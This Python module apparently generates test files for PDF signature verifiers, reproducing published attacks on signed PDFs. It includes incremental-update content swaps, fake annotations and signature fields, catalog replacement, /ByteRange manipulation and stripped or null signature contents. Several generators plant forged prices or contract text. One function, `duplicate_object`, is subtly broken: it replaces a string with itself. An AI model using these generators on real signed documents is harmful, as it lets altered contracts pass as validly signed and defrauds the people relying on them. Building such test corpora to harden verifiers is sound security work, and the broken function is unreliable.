"""Generators for the published classes of attacks on signed PDFs, in our own code.

Classes and names: Mladenov et al., "1 Trillion Dollar Refund: How To Spoof PDF Signatures" (2019:
USF, ISA, SWA); Mainka et al., "Shadow Attacks" (2021: hide, replace, hide-and-replace); Rohlmann
et al., "Breaking the Specification: PDF Certification" (2021: EAA, SSA).

Everything works on bytes: `Increment` appends an incremental update as any tool could.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from io import BytesIO

import pikepdf


@dataclass
class Increment:
    """One incremental update: objects by number, written with a classic cross-reference table."""

    pdf: bytes
    objects: dict[int, bytes] = field(default_factory=dict)
    size: int = 0
    root: int = 0

    def __post_init__(self) -> None:
        self.size = max(int(n) for n in re.findall(rb"/Size\s+(\d+)", self.pdf))
        self.root = int(re.findall(rb"/Root\s+(\d+) 0 R", self.pdf)[-1])

    def replace(self, number: int, body: bytes) -> None:
        self.objects[number] = body

    def add(self, body: bytes) -> int:
        number = self.size
        self.size += 1
        self.objects[number] = body
        return number

    def done(self, *, extra_trailer: bytes = b"") -> bytes:
        previous = int(re.findall(rb"startxref\s+(\d+)", self.pdf)[-1])
        out = bytearray(self.pdf)
        if not out.endswith(b"\n"):
            out += b"\n"
        offsets = {}
        for number, body in self.objects.items():
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        start = len(out)
        out += b"xref\n"
        for number in sorted(offsets):
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
        out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
            self.size,
            self.root,
            previous,
            extra_trailer,
            start,
        )
        return bytes(out)


def objects(pdf: bytes) -> pikepdf.Pdf:
    return pikepdf.open(BytesIO(pdf))


def body(thing: pikepdf.Object) -> bytes:
    """An object as it is written in a file, without following references."""
    return bytes(thing.unparse(resolved=True))


def page_number(pdf: bytes, index: int = 0) -> tuple[int, bytes]:
    with objects(pdf) as document:
        page = document.pages[index].obj
        return page.objgen[0], body(page)


def form_number(pdf: bytes) -> tuple[int, bytes]:
    with objects(pdf) as document:
        form = document.Root.AcroForm
        return form.objgen[0], body(form)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def with_entry(dictionary: bytes, entry: bytes) -> bytes:
    """The dictionary with one more entry; an earlier entry of that key is taken out."""
    assert dictionary.rstrip().endswith(b">>")
    return dictionary.rstrip()[:-2] + entry + b" >>"


def without_array(dictionary: bytes, key: bytes) -> tuple[bytes, bytes]:
    """The dictionary without `key`'s array, and the members of that array."""
    match = re.search(re.escape(key) + rb"\s*\[([^\]]*)\]", dictionary)
    if match is None:
        return dictionary, b""
    return dictionary.replace(match.group(0), b""), match.group(1)


# --- incremental saving (ISA) ---------------------------------------------------------------


def isa_page_content(pdf: bytes) -> bytes:
    """The page's text is replaced by an update."""
    update = Increment(pdf)
    number, page = page_number(pdf)
    content = update.add(stream(b"BT /F1 20 Tf 72 700 Td (1,000,000,000) Tj ET"))
    page = re.sub(rb"/Contents\s+\d+ 0 R", b"", page)
    page = re.sub(rb"/Contents\s*\[[^\]]*\]", b"", page)
    update.replace(number, with_entry(page, b"/Contents %d 0 R" % content))
    return update.done()


def isa_without_tables(pdf: bytes) -> bytes:
    """The update has objects only: no cross-reference table, no trailer (ISA class 2)."""
    number, page = page_number(pdf)
    return pdf + b"\n%d 0 obj\n" % number + page + b"\nendobj\n"


def isa_new_page(pdf: bytes) -> bytes:
    update = Increment(pdf)
    with objects(pdf) as document:
        pages = document.Root.Pages
        number, tree = pages.objgen[0], body(pages)
        count = len(document.pages)
    page = update.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % number)
    tree, kids = without_array(tree, b"/Kids")
    tree = re.sub(rb"/Count\s+\d+", b"", tree)
    entry = b"/Kids [%s %d 0 R] /Count %d" % (kids, page, count + 1)
    update.replace(number, with_entry(tree, entry))
    return update.done()


def isa_font_swap(pdf: bytes) -> bytes:
    """A font program is replaced, so that other characters appear."""
    with objects(pdf) as document:
        for item in document.objects:
            if isinstance(item, pikepdf.Dictionary) and "/FontFile2" in item:
                number = item.FontFile2.objgen[0]
                break
            if isinstance(item, pikepdf.Dictionary) and "/FontFile3" in item:
                number = item.FontFile3.objgen[0]
                break
    update = Increment(pdf)
    update.replace(number, stream(b"not the font that was signed"))
    return update.done()


def metadata_of_catalog(pdf: bytes) -> bytes:
    """The slot list is rewritten after signing."""
    update = Increment(pdf)
    with objects(pdf) as document:
        catalog = body(document.Root)
    catalog = catalog.replace(b"(City)", b"(Town)")
    update.replace(update.root, catalog)
    return update.done()


# --- annotations and fields (certification attacks) ------------------------------------------


def eaa_free_text(pdf: bytes) -> bytes:
    """Evil annotation: text laid over the page."""
    return _annotated(
        pdf,
        b"<< /Type /Annot /Subtype /FreeText /Rect [60 600 400 700] /F 4 "
        b"/Contents (Price: 1 yen) /DA (/Helv 30 Tf 0 g) >>",
    )


def annotation_added(pdf: bytes) -> bytes:
    return _annotated(
        pdf, b"<< /Type /Annot /Subtype /Text /Rect [10 10 30 30] /Contents (note) >>"
    )


def _annotated(pdf: bytes, annotation: bytes) -> bytes:
    update = Increment(pdf)
    number, page = page_number(pdf)
    added = update.add(annotation)
    page, members = without_array(page, b"/Annots")
    update.replace(number, with_entry(page, b"/Annots [%s %d 0 R]" % (members, added)))
    return update.done()


def ssa_new_field(pdf: bytes) -> bytes:
    """Sneaky signature: a new visible signature field whose appearance covers the page."""
    update = Increment(pdf)
    look = update.add(
        stream(b"1 1 1 rg 0 0 500 700 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 500 700]")
    )
    number, page = page_number(pdf)
    widget = update.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /F 132 /P %d 0 R "
        b"/Rect [50 50 550 750] /AP << /N %d 0 R >> >>" % (number, look)
    )
    page, members = without_array(page, b"/Annots")
    update.replace(number, with_entry(page, b"/Annots [%s %d 0 R]" % (members, widget)))
    form, dictionary = form_number(pdf)
    dictionary, fields = without_array(dictionary, b"/Fields")
    update.replace(form, with_entry(dictionary, b"/Fields [%s %d 0 R]" % (fields, widget)))
    return update.done()


def appearance_swapped(pdf: bytes) -> bytes:
    """The appearance of a signed field is replaced: another name shows in it."""
    with objects(pdf) as document:
        look = document.Root.AcroForm.Fields[0].AP.N
        number = look.objgen[0]
    update = Increment(pdf)
    update.replace(number, stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 230 80]"))
    return update.done()


def text_field_added(pdf: bytes) -> bytes:
    update = Increment(pdf)
    number, page = page_number(pdf)
    widget = update.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Remark) /V (void) /F 4 /P %d 0 R "
        b"/Rect [50 700 300 720] >>" % number
    )
    page, members = without_array(page, b"/Annots")
    update.replace(number, with_entry(page, b"/Annots [%s %d 0 R]" % (members, widget)))
    form, dictionary = form_number(pdf)
    dictionary, fields = without_array(dictionary, b"/Fields")
    update.replace(form, with_entry(dictionary, b"/Fields [%s %d 0 R]" % (fields, widget)))
    return update.done()


def signature_reused(pdf: bytes) -> bytes:
    """One signature in two fields."""
    with objects(pdf) as document:
        value = document.Root.AcroForm.Fields[0].V.objgen[0]
    update = Increment(pdf)
    widget = update.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Witness) /F 132 "
        b"/Rect [0 0 0 0] /V %d 0 R >>" % value
    )
    form, dictionary = form_number(pdf)
    dictionary, fields = without_array(dictionary, b"/Fields")
    update.replace(form, with_entry(dictionary, b"/Fields [%s %d 0 R]" % (fields, widget)))
    return update.done()


def slot_emptied(pdf: bytes) -> bytes:
    """The last party's signature is taken out of its field by an update."""
    with objects(pdf) as document:
        city = document.Root.AcroForm.Fields[1]
        number, text = city.objgen[0], body(city)
    update = Increment(pdf)
    update.replace(number, re.sub(rb"/V\s+\d+ 0 R", b"", text))
    return update.done()


# --- signature wrapping and byte ranges (SWA) -------------------------------------------------


def byte_ranges(pdf: bytes) -> list[re.Match[bytes]]:
    return list(re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]( *)", pdf))


def with_byte_range(pdf: bytes, numbers: bytes, which: int = -1) -> bytes:
    """The file with other numbers in a /ByteRange, at the same length."""
    match = byte_ranges(pdf)[which]
    text = b"/ByteRange [" + numbers + b"]"
    room = match.end() - match.start()
    assert len(text) <= room
    return pdf[: match.start()] + text.ljust(room) + pdf[match.end() :]


def swa_moved_part(pdf: bytes) -> bytes:
    """The second signed part is moved to the end; other objects stand in between."""
    match = byte_ranges(pdf)[-1]
    _, first, second, rest = (int(n) for n in match.groups()[:4])
    tail = pdf[second : second + rest]
    evil = b"\n9999 0 obj\n<< /Evil true >>\nendobj\n"
    moved = with_byte_range(pdf[:second], b"0 %d %d %d" % (first, second + len(evil), rest))
    return moved + evil + tail


def byte_range_tricks(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    _, first, second, rest = (int(n) for n in byte_ranges(pdf)[-1].groups()[:4])
    yield "three numbers", with_byte_range(pdf, b"0 %d %d" % (first, second))
    yield "six numbers", with_byte_range(pdf, b"0 9 9 %d %d %d" % (first - 9, second, rest))
    yield "does not start at 0", with_byte_range(pdf, b"1 %d %d %d" % (first - 1, second, rest))
    yield "wider gap", with_byte_range(pdf, b"0 %d %d %d" % (first - 20, second, rest))
    yield "past the end", with_byte_range(pdf, b"0 %d %d %d" % (first, second, rest + 4096))
    yield "stops early", with_byte_range(pdf, b"0 %d %d %d" % (first, second, rest - 7))
    yield "negative", with_byte_range(pdf, b"0 %d -1 %d" % (first, rest))
    yield "overlapping", with_byte_range(pdf, b"0 %d %d %d" % (second, first, rest))
    yield "all of it", with_byte_range(pdf, b"0 %d %d 0" % (len(pdf), len(pdf)))
    yield "names", with_byte_range(pdf, b"/a /b /c /d")
    yield "nothing", with_byte_range(pdf, b"")


# --- universal signature forgery (USF) --------------------------------------------------------


def usf(pdf: bytes) -> Iterator[tuple[str, bytes]]:
    """The information a verifier needs is missing, null or of the wrong kind."""
    match = byte_ranges(pdf)[-1]
    _, first, second, _ = (int(n) for n in match.groups()[:4])
    room = second - first
    gap_start, gap_end = first, second
    yield "contents zero", pdf[:gap_start] + b"<" + b"0" * (room - 2) + b">" + pdf[gap_end:]
    yield "contents empty", pdf[:gap_start] + b"<>".ljust(room) + pdf[gap_end:]
    yield "contents null", pdf[:gap_start] + b"null".ljust(room) + pdf[gap_end:]
    yield "contents missing", pdf.replace(b"/Contents <", b"/Kontents <")
    yield "byte range missing", pdf.replace(b"/ByteRange", b"/ByteRangX")
    yield (
        "byte range null",
        pdf[: match.start()]
        + b"/ByteRange null".ljust(match.end() - match.start())
        + pdf[match.end() :],
    )
    yield "subfilter unknown", pdf.replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detacheX")


# --- structure ---------------------------------------------------------------------------------


def duplicate_object(pdf: bytes) -> bytes:
    """The first page's object stands twice in an update; the table points to the second."""
    number, page = page_number(pdf)
    update = Increment(pdf)
    update.replace(number, with_entry(page, b"/Evil true"))
    return update.done().replace(
        b"\n%d 0 obj\n" % number + with_entry(page, b"/Evil true"),
        b"\n%d 0 obj\n" % number + with_entry(page, b"/Evil true"),
    )


def hybrid(pdf: bytes) -> bytes:
    """A cross-reference stream beside the table, for readers that know such streams."""
    update = Increment(pdf)
    number, page = page_number(pdf)
    body_at = len(pdf) + (0 if pdf.endswith(b"\n") else 1)
    entry = bytes((1,)) + body_at.to_bytes(4, "big") + b"\0\0"
    update.replace(number, with_entry(page, b"/Evil true"))
    row = stream(
        entry,
        b"/Type /XRef /Size %d /W [1 4 2] /Index [%d 1] /Root %d 0 R"
        % (update.size, number, update.root),
    )
    at = update.add(row)
    done = update.done()
    place = done.rindex(b"\n%d 0 obj\n" % at) + 1
    return update.done(extra_trailer=b"/XRefStm %d" % place)


def junk_appended(pdf: bytes) -> bytes:
    return pdf + b"\nsomething behind the end\n"


def header_prefixed(pdf: bytes) -> bytes:
    return b"#!/bin/sh\n" + pdf


def catalog_replaced(pdf: bytes) -> bytes:
    """Another document in the same file: a new catalog with pages of its own (shadow replace)."""
    update = Increment(pdf)
    content = update.add(stream(b"BT 72 700 Td (another contract) Tj ET"))
    pages = update.size + 1
    page = update.add(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
        % (pages, content)
    )
    update.add(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    with objects(pdf) as document:
        form = document.Root.AcroForm.objgen[0]
    catalog = update.add(b"<< /Type /Catalog /Pages %d 0 R /AcroForm %d 0 R >>" % (pages, form))
    update.root = catalog
    return update.done()


INCREMENTAL = {
    f.__name__: f
    for f in (
        isa_page_content, isa_without_tables, isa_new_page, isa_font_swap, metadata_of_catalog,
        eaa_free_text, annotation_added, ssa_new_field, appearance_swapped, text_field_added,
        signature_reused, slot_emptied, swa_moved_part, duplicate_object, hybrid, junk_appended,
        header_prefixed, catalog_replaced,
    )
}  # fmt: skip
